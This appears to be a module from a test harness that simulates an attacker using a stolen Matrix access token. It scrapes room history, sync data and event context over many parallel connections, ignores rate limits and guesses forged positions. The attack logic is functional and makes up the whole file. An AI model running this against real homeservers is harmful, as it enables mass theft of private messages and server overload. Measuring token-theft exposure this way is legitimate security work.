// What the thief does with a stolen token: everything that a client can ask to see old messages, as fast as it is answered, over many
// connections, without ever waiting when told to. It knows each room and event id that it has seen, and guesses positions.
import type { Takings } from './all/takings.ts'
import { type Answer, connection, type Thief, type Watch } from './connection.ts'

const CONNECTIONS = 64
/** Connections of those that ask what came since the stolen position, all the same: they cannot get more than one would. */
const CATCHING_UP = 8
/** How often a position is asked for again once it was withheld. */
const TRIES = 2
/** Rooms that are asked in every way; all others are asked by /messages. */
const ROOMS_ASKED_IN_EVERY_WAY = 40

export interface Attack {
  readonly takings: Takings
  readonly watch: Watch
  readonly answers: Map<number, number>
  requests: number
}

interface Seen {
  readonly event_id?: unknown
  readonly room_id?: unknown
}

interface SyncedRoom {
  readonly state?: { readonly events?: readonly Seen[] }
  readonly timeline?: { readonly events?: readonly Seen[] }
}

interface Job {
  readonly path: string
  readonly tries: number
}

/** The stolen position, and what it covers (epoch milliseconds). */
export interface Position {
  readonly since: string
  readonly coveredUntilMs: number
}

/** Asks what came since the stolen position, over and over, until nothing new comes. */
export async function catchUp(thief: Thief, { since, coveredUntilMs }: Position, into: Attack): Promise<void> {
  const path = `${V3}/sync?since=${encodeURIComponent(since)}&timeout=0&filter=${encodeURIComponent(BIG_TIMELINE)}`
  await Promise.all(
    Array.from({ length: CATCHING_UP }, async (_, index) => {
      const ask = connection(thief, index, into.watch)
      for (let tries = 0; tries < TRIES; tries++) {
        if (note(into, await ask(path), path, coveredUntilMs) > 0) tries = -1
      }
    }),
  )
}

/** Reads all that can be reached until there is nothing left to ask, nothing new came for `patienceMs`, or the token is refused. */
export async function attack(thief: Thief, rooms: readonly string[], into: Attack, patienceMs: number): Promise<void> {
  const jobs = new Jobs(rooms)
  let newMs = performance.now()
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async (_, index) => {
      const ask = connection(thief, index, into.watch)
      for (let job = jobs.next(); job !== undefined; job = jobs.next()) {
        const answer = await ask(job.path)
        if (note(into, answer, job.path) > 0) newMs = performance.now()
        if (performance.now() - newMs > patienceMs) return
        if (answer.status === 401) return
        jobs.after(job, answer)
      }
    }),
  )
}

/** Goes on asking, for history and for live traffic, until `over` says so. */
export async function harass(thief: Thief, rooms: readonly string[], into: Attack, over: () => boolean): Promise<void> {
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async (_, index) => {
      const ask = connection(thief, index, into.watch)
      for (let turn = index; !over(); turn++) {
        const room = encodeURIComponent(rooms[turn % rooms.length] as string)
        const paths = [
          `${V3}/rooms/${room}/messages?dir=b&limit=100`,
          `${V3}/joined_rooms`,
          `${V3}/account/whoami`,
          `${V3}/rooms/${room}/state`,
        ]
        const path = paths[turn % paths.length] as string
        const answer = await ask(path)
        note(into, answer, path)
        if (answer.status === 401 || answer.status === 0) await new Promise((resolve) => setTimeout(resolve, 20))
      }
    }),
  )
}

function note(into: Attack, answer: Answer, path: string, coveredUntilMs?: number): number {
  into.requests++
  into.answers.set(answer.status, (into.answers.get(answer.status) ?? 0) + 1)
  // A cut answer's bytes were read too, as far as they make sense.
  const reading = path.endsWith('/state') ? 'state' : 'events'
  const news = into.takings.take(reading, { method: 'GET', path }, answer, Date.now(), coveredUntilMs)
  return (news.archive ?? 0) + (news['catch-up'] ?? 0)
}

const V3 = '/_matrix/client/v3'
const PREFIXES = [V3, '/_matrix/client/r0', '/_matrix/client/api/v1', '/_matrix/client/unstable']
const BIG_TIMELINE = JSON.stringify({ room: { timeline: { limit: 100 }, include_leave: true } })

/** Work in the order in which it comes; what answers reveal is asked next. */
class Jobs {
  readonly #waiting: Job[] = []
  readonly #known = new Set<string>()

  constructor(rooms: readonly string[]) {
    for (const since of ['', 'since=s0', 'since=s1_1_1_1_1_1_1_1_1_1', 'since=forged']) {
      for (const more of [
        'timeout=0',
        'timeout=0&full_state=true',
        `timeout=0&filter=${encodeURIComponent(BIG_TIMELINE)}`,
      ]) {
        this.#add(`${V3}/sync?${[since, more].filter(Boolean).join('&')}`)
      }
    }
    for (const room of rooms) this.#add(`${V3}/rooms/${encodeURIComponent(room)}/messages?dir=b&limit=1000`)
    for (const room of rooms.slice(0, ROOMS_ASKED_IN_EVERY_WAY)) {
      const at = `rooms/${encodeURIComponent(room)}`
      for (const prefix of PREFIXES) this.#add(`${prefix}/${at}/messages?dir=b&limit=1000`)
      this.#add(`${V3}/${at}/messages?dir=f&limit=1000`)
      this.#add(`/_matrix/client/v1/${at}/threads?limit=100`)
      this.#add(`${V3}/${at}/initialSync?limit=100`)
    }
    this.#add(`${V3}/initialSync?limit=100`)
    this.#add(`${V3}/events?timeout=0`)
  }

  next(): Job | undefined {
    return this.#waiting.shift()
  }

  /** What an answer leads to: the next page, the events' surroundings, or the same thing again. */
  after(job: Job, { status, body }: Answer): void {
    if (status !== 200) {
      if ((status === 429 || status === 0) && job.tries + 1 < TRIES)
        this.#waiting.push({ path: job.path, tries: job.tries + 1 })
      return
    }
    const [path, query = ''] = job.path.split('?') as [string, string?]
    const {
      end,
      next_batch: nextBatch,
      chunk,
    } = (body ?? {}) as { end?: unknown; next_batch?: unknown; chunk?: unknown }
    if (path.endsWith('/messages') && typeof end === 'string') {
      this.#add(`${path}?${query.replace(/&from=[^&]*/, '')}&from=${encodeURIComponent(end)}`)
    }
    if (path.endsWith('/sync') && typeof nextBatch === 'string')
      this.#add(`${path}?since=${encodeURIComponent(nextBatch)}&timeout=0`)
    for (const { event_id: id, room_id: room } of Array.isArray(chunk) ? (chunk.slice(0, 3) as Seen[]) : []) {
      this.#around(room, id)
    }
    this.#aroundSynced(body)
  }

  // State costs nothing and names a room's first events: their surroundings are its oldest messages.
  #aroundSynced(body: unknown): void {
    const { join = {} } = (body as { rooms?: { join?: Record<string, SyncedRoom> } } | null)?.rooms ?? {}
    for (const [room, { state, timeline }] of Object.entries(join).slice(0, ROOMS_ASKED_IN_EVERY_WAY)) {
      for (const seen of [state?.events?.[0], timeline?.events?.[0], timeline?.events?.at(-1)]) {
        this.#around(room, seen?.event_id)
      }
    }
  }

  #around(room: unknown, id: unknown): void {
    if (typeof id !== 'string' || typeof room !== 'string') return
    const [event, at] = [encodeURIComponent(id), `rooms/${encodeURIComponent(room)}`]
    this.#add(`${V3}/${at}/event/${event}`)
    this.#add(`${V3}/${at}/context/${event}?limit=100`)
    this.#add(`/_matrix/client/v1/${at}/relations/${event}?limit=100`)
  }

  #add(path: string): void {
    if (this.#known.has(path)) return
    this.#known.add(path)
    this.#waiting.push({ path, tries: 0 })
  }
}
